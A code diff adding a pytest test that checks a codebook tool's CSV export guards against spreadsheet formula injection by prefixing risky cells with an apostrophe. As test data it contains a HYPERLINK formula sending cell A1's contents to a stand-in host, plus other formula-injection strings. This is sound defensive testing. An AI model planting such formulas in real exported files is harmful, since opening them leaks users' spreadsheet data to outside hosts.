@@ -160,3 +160,32 @@ def test_invalid_export_is_refused(tmp_path: Path, codebook_xsd: Path) -> None:
         from indsigt.interchange.validation import validate_project
 
         validate_project(b"<CodeBook xmlns='urn:QDA-XML:codebook:1.0'/>", codebook_xsd, label="x")
+
+
+def test_csv_export_does_not_write_spreadsheet_formulas(tmp_path: Path) -> None:
+    """A label or definition starting with = + - @ would run as a formula when the exported
+    CSV is opened in a spreadsheet: it is written with a leading apostrophe, and read back as
+    it was (issue 18, same class as item 13)."""
+    from indsigt.codebook import Codebook
+    from indsigt.records import Code
+
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"klik")'
+    code = Code(
+        id=0,
+        path="Tema",
+        labels={"da": hostile},
+        definition="+1 tæller som -1",
+        include="@SUM(A1)",
+        exclude="- ikke dette",
+        keywords=("=cmd",),
+        examples=("=2+2",),
+        color="",
+    )
+    path = write_codebook(Codebook.from_codes([code], name="x"), tmp_path / "codes.csv")
+    import csv
+
+    cells = [cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
+    assert f"'{hostile}" in cells
+    again = read_codebook(path)
+    assert _content(again) == _content(Codebook.from_codes([code], name="x"))
